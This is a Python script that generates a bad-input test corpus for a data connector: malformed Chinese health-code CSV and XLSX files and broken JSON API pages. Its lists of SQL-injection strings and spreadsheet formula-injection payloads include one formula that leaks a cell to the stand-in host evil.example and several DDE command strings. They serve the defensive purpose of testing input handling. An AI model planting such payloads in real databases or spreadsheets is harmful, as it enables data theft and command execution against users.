"""Write the bad-input corpus next to this script: `.venv/bin/python tests/data/bad_input/make_corpus.py`.

The generated files are committed (they are the corpus); this script says how each was made and
makes them again byte for byte. `MANIFEST` (manifest.json) lists every file with what it holds.

- health_codes/accepted/: drop files the connector must read — every data line ends up landed,
  skipped as an exact duplicate, or quarantined with the file and line;
- health_codes/refused/: drop files the connector must refuse as a whole with a ConnectorError
  naming the file (nothing landed, the load recorded failed);
- hotline/, city_cases/: JSON pages a tiny HTTP server on loopback serves in the tests.
"""

from __future__ import annotations

import csv
import io
import json
from datetime import datetime
from pathlib import Path

import xlsxwriter

HERE = Path(__file__).resolve().parent
HEADERS = ["序号", "姓名", "身份证号", "手机号码", "健康码状态", "赋码时间", "疫苗接种剂次", "最近核酸采样时间",
           "核酸检测结果", "所属社区"]
COMMUNITY = "幸福村"  # the village community of tests/warehouse/village.py (seed 1)

SQL_INJECTION = ["'; drop table raw.health_codes_exports; --", "Robert'); DROP TABLE students;--",
                 "1' OR '1'='1", "\"; delete from meta.loads; --", "王伟'); drop table meta.quarantine; --"]
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")', "+cmd|' /C calc'!A0", "-1+1",
            "@SUM(1+1)*cmd|' /C calc'!A0", "=1+2", "\t=1+1"]


def check_char(body: str) -> str:
    """The ISO 7064 MOD 11-2 check character of the first 17 digits of a resident ID."""
    weights = [7, 9, 10, 5, 8, 4, 2, 1, 6, 3, 7, 9, 10, 5, 8, 4, 2]
    return "10X98765432"[sum(int(d) * w for d, w in zip(body, weights, strict=True)) % 11]


def resident_id(n: int, born: str = "19850101") -> str:
    body = f"420102{born}{n % 1000:03d}"
    return body + check_char(body)


def row(n: int, **change: str) -> list[str]:
    """One data line as the platform writes it, with `change` (by Chinese header) applied."""
    values = {"序号": str(n), "姓名": f"测试{n}", "身份证号": resident_id(n), "手机号码": f"1380000{n:04d}",
              "健康码状态": "绿码", "赋码时间": "2026-11-20 08:00:00", "疫苗接种剂次": "2",
              "最近核酸采样时间": "2026-11-19 09:30:00", "核酸检测结果": "阴性", "所属社区": COMMUNITY}
    values.update(change)
    return [values[h] for h in HEADERS]


def csv_text(rows: list[list[str]], headers: list[str] = HEADERS) -> str:
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow(headers)
    writer.writerows(rows)
    return out.getvalue()


def name(day: int, ext: str = "csv") -> str:
    return f"健康码日报_202612{day:02d}.{ext}"


# --- accepted files: (file name, bytes, what it holds) --------------------------------------------

def accepted() -> list[tuple[str, bytes, str]]:
    files: list[tuple[str, bytes, str]] = []

    # Mixed encodings: a UTF-8 file into which a second system appended GB18030 lines.
    head = csv_text([row(1), row(2, 姓名="李娜")]).encode("utf-8")
    tail = csv_text([row(3, 姓名="张伟"), row(4, 姓名="刘洋")])
    tail_bytes = "".join(tail.splitlines(keepends=True)[1:]).encode("gb18030")
    files.append((name(1), head + tail_bytes, "UTF-8 file with two GB18030 lines (lines 4-5)"))

    files.append((name(2), b"", "empty file (0 bytes)"))
    files.append((name(3), csv_text([]).encode("gb18030"), "headers only"))

    big = "张" * 524_288  # 1 MiB in GB18030 (2 bytes a character)
    files.append((name(4), csv_text([row(1, 姓名=big), row(2, 所属社区="社" * 50_000)]).encode("gb18030"),
                  "oversized fields: a 1 MiB name, a 100 KB community"))

    files.append((name(5), csv_text([
        row(1, 姓名="王\x00伟"),                       # NUL inside a name
        row(2, 姓名="李\x07\x08娜\x1b[31m"),           # bell, backspace, an ANSI escape
        row(3, 姓名="赵\u200b敏\u202e", 所属社区=COMMUNITY + "\x0b"),  # zero-width space, RTL override, VT
        row(4, 姓名="钱\r多多"),                        # a bare CR inside a field (quoted by csv)
        row(5, 手机号码="138\x001234\x005678"),
    ]).encode("gb18030"), "control characters and NUL bytes in text fields"))

    files.append((name(6), csv_text([row(i + 1, 姓名=s, 所属社区=s if i == 0 else COMMUNITY,
                                         核酸检测结果=s if i == 1 else "阴性")
                                     for i, s in enumerate(SQL_INJECTION)]).encode("gb18030"),
                  "SQL-injection strings in name, community and test result"))

    files.append((name(7), csv_text([row(i + 1, 姓名=s, 手机号码=s if i == 2 else "13800000000")
                                     for i, s in enumerate(FORMULAS)]).encode("gb18030"),
                  "formula-injection strings in name and phone"))

    files.append((name(8), csv_text([
        row(1, 赋码时间="0000-00-00 00:00:00"),
        row(2, 赋码时间="2026-02-30 10:00:00"),
        row(3, 赋码时间="2026年2月30日"),
        row(4, 赋码时间="99999"),                       # an Excel serial: 2173-10-13
        row(5, 赋码时间="99999999"),                    # beyond Excel's last day
        row(6, 最近核酸采样时间="2026-13-45 25:61:61"),
        row(7, 赋码时间="0"),                           # serial 0: 1899-12-30
        row(8, 赋码时间="-1"),
        row(9, 序号="九"),                               # a record number that is no number
    ]).encode("gb18030"), "impossible dates and Excel serials; a record number that is no number"))

    files.append((name(9), csv_text([
        row(1, 身份证号="42010219900101123A"),
        row(2, 身份证号="ABCDEFGHIJKLMNOPQR"),
        row(3, 身份证号="４２０１０２１９９０"),
        row(4, 身份证号=""),
        row(5, 身份证号="4201021990010112345678901234567890"),
    ]).encode("gb18030"), "IDs with letters, full-width, missing, too long"))

    broken = csv_text([row(1), row(2), row(3), row(4)]).splitlines(keepends=True)
    broken[2] = "2,测试2,420102198501010020\r\n"            # too few fields
    broken[3] = '3,"测试3,' + ",".join(row(3)[2:]) + "\r\n"  # a quote left open
    broken.append(",".join(row(5)) + ",多出来的一列\r\n")     # too many fields
    broken.append(",".join(row(1)) + "\r\n")                 # line 2 again: an exact duplicate
    files.append((name(10), "".join(broken).encode("gb18030"),
                  "broken lines (too few / too many fields, open quote) and a duplicated line"))

    files.append((name(11, "xlsx"), _xlsx(), "XLSX: formula strings, 99999 serial, impossible date text, letter ID"))
    return files


def _xlsx() -> bytes:
    out = io.BytesIO()
    wb = xlsxwriter.Workbook(out, {"in_memory": True, "strings_to_formulas": False, "strings_to_numbers": False})
    wb.set_properties({"created": datetime(2026, 12, 11, 8, 0, 0)})  # same bytes on every run
    ws = wb.add_worksheet("健康码导出")
    ws.write_row(0, 0, HEADERS)
    rows = [row(1, 姓名="=HYPERLINK(\"http://evil.example\",\"点我\")"), row(2, 姓名="+cmd|' /C calc'!A0"),
            row(3, 赋码时间="2026-02-30 10:00:00"), row(4, 身份证号="42010219900101123A"),
            row(5, 姓名="Robert'); DROP TABLE students;--")]
    for r, values in enumerate(rows, start=1):
        ws.write_row(r, 0, values)
    ws.write_number(6, 0, 6)
    ws.write_row(6, 1, row(6)[1:5])
    ws.write_number(6, 5, 99999)                                # 赋码时间 as a numeric serial
    ws.write_row(6, 6, row(6)[6:])
    ws.write_row(7, 0, [*row(7), "多出来的一列"])                  # a value beyond the headed columns
    wb.close()
    return out.getvalue()


# --- refused files --------------------------------------------------------------------------------

def refused() -> list[tuple[str, bytes, str]]:
    good = csv_text([row(1, 姓名="张伟"), row(2, 姓名="陈静")])
    files = [
        (name(21), _big5(), "Big5 (traditional) file"),
        (name(22), good.encode("utf-16"), "UTF-16 with BOM"),
        (name(23), good.encode("utf-16-le"), "UTF-16 LE without BOM"),
        (name(24), csv_text([row(1)], [*HEADERS[:2], "姓名", *HEADERS[2:]]).replace("\r\n1,", "\r\n1,重复,", 1)
         .encode("gb18030"), "duplicated header 姓名"),
        (name(25), csv_text([row(1)[:2] + row(1)[3:]], [h for h in HEADERS if h != "身份证号"]).encode("gb18030"),
         "missing required header 身份证号"),
        (name(26, "xlsx"), _xlsx()[: len(_xlsx()) // 2], "truncated XLSX (zip cut in half)"),
        (name(27), good.encode("gb18030") + b"3,\x81\xff\x80\r\n", "bytes valid in neither GB18030 nor UTF-8 (line 4)"),
    ]
    return files


def _big5() -> bytes:
    # A Taiwan/Hong Kong style export in traditional characters and Big5: read as GB18030 it
    # decodes, but into other characters, so no standard header is found.
    headers = ["序號", "姓名", "身份證號", "手機號碼", "健康碼狀態", "賦碼時間", "疫苗接種劑次", "最近核酸採樣時間",
               "核酸檢測結果", "所屬社區"]
    rows = [[r[0], n, r[2], r[3], "綠碼", r[5], r[6], r[7], "陰性", r[9]]
            for r, n in ((row(1), "張偉"), (row(2), "陳靜"))]
    return csv_text(rows, headers).encode("big5")


# --- JSON pages -----------------------------------------------------------------------------------

def ticket(n: int, **change: object) -> dict[str, object]:
    base: dict[str, object] = {
        "ticket_id": f"GD20261220{n:05d}", "caller_name": f"来电人{n}", "caller_phone": "13800000000",
        "caller_id_number": None, "address": "光明花园4号楼1单元1301", "street": "大智街道",
        "department": "区城管局", "category": "市容环境", "urgency": "一般", "content": "路灯不亮",
        "received_at": "2026-11-02T09:00:00+08:00", "dispatched_at": None, "first_response_at": None,
        "resolved_at": None, "closed_at": None, "rated_at": None,
        "response_deadline": "2026-11-03T09:00:00+08:00", "resolve_deadline": "2026-11-09T09:00:00+08:00",
        "satisfaction": None, "status": "received", "status_name": "已受理",
        "updated_at": "2026-11-02T09:00:00+08:00",
    }
    base.update(change)
    return base


def hotline_pages() -> dict[str, bytes]:
    """Pages served in order (page_1, page_2, ...) per scenario; names are <scenario>.page_<n>.json."""
    rows = [
        ticket(1, content=SQL_INJECTION[0], caller_name=SQL_INJECTION[1]),
        ticket(2, content=FORMULAS[0], caller_name=FORMULAS[1], department=FORMULAS[2]),
        ticket(3, content=FORMULAS[3], caller_name="=1+2"),
        ticket(4, content="长" * 100_000),                          # a field of 100k characters
        ticket(5, content="NUL\x00 bell\x07 esc\x1b[0m", caller_name="王\x00伟"),
        ticket(6, urgency={"value": 1}, satisfaction=[1, 2]),     # wrong types, documented fields
        ticket(7, received_at="0000-00-00T00:00:00+08:00"),
        ticket(8, caller_id_number="ABCDEFGHIJKLMNOPQR"),
        {"content": "no ticket_id"},                                # held: no key
        ticket(10, updated_at="2026-02-30T10:00:00+08:00"),         # held: not an ISO time
        "just a string",                                            # held: not an object
        ticket(12, status={"code": 1}),                             # an object in a text field: JSON text
    ]
    page1 = {"data": rows[:6], "has_more": True, "next_cursor": "c1"}
    page2 = {"data": rows[6:], "has_more": False, "next_cursor": None}
    return {
        "mixed.page_1.json": _json(page1),
        "mixed.page_2.json": _json(page2),
        "malformed.page_1.json": b'{"data": [{"ticket_id": "GD1", "content": "\xe8\xb7\xaf',  # cut mid-string
        "not_object.page_1.json": _json([ticket(1)]),
        "required_retyped.page_1.json": _json({"data": [ticket(1, status=1), ticket(2, status=2)],
                                                "has_more": False, "next_cursor": None}),
        "not_a_page.page_1.json": _json({"tickets": [ticket(1)], "more": False}),
    }


def case(n: int, **change: object) -> dict[str, object]:
    base: dict[str, object] = {
        "case_id": f"AJ2026122{n:05d}", "category_type": "部件", "category_code": "0101",
        "category_name": "路灯", "description": "路灯损坏", "address": "光明花园4号楼",
        "street": "大智街道", "community": COMMUNITY, "reporter_type": "网格员", "reporter_name": "周敏",
        "reporter_phone": "13800000000", "source_ticket_id": None,
        "reported_at": "2026-11-02T09:00:00+08:00", "registered_at": None, "dispatched_at": None,
        "disposed_at": None, "verified_at": None, "closed_at": None, "deadline": None,
        "status": "reported", "status_name": "已上报", "updated_at": "2026-11-02T09:00:00+08:00",
        "lon": 114.3, "lat": 30.6,
    }
    base.update(change)
    return base


def city_pages() -> dict[str, bytes]:
    rows = [
        case(1, lon={"value": 114.3}, lat="30.6"),                  # numbers as an object and as text
        case(2, description="长" * 100_000),
        case(3, description=SQL_INJECTION[0], reporter_name=FORMULAS[0]),
        case(4, reported_at="2026-02-30T09:00:00+08:00"),
        {"case_id": None, "updated_at": "2026-11-02T09:00:00+08:00"},   # held: no key
    ]
    return {
        "mixed.page_1.json": _json({"cases": rows, "has_more": False, "cursor": "c1"}),
        "malformed.page_1.json": b'{"cases": [{"case_id": "AJ1"},, ], "has_more": tru',
    }


def _json(value: object) -> bytes:
    return json.dumps(value, ensure_ascii=False).encode("utf-8")


def build() -> dict[str, str]:
    manifest: dict[str, str] = {}
    for folder, files in (("health_codes/accepted", accepted()), ("health_codes/refused", refused())):
        (HERE / folder).mkdir(parents=True, exist_ok=True)
        for file_name, data, what in files:
            (HERE / folder / file_name).write_bytes(data)
            manifest[f"{folder}/{file_name}"] = what
    for folder, pages in (("hotline", hotline_pages()), ("city_cases", city_pages())):
        (HERE / folder).mkdir(parents=True, exist_ok=True)
        for file_name, data in pages.items():
            (HERE / folder / file_name).write_bytes(data)
            manifest[f"{folder}/{file_name}"] = "JSON page"
    (HERE / "manifest.json").write_text(json.dumps(manifest, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    return manifest


if __name__ == "__main__":
    for path, what in build().items():
        print(f"{path}: {what}")
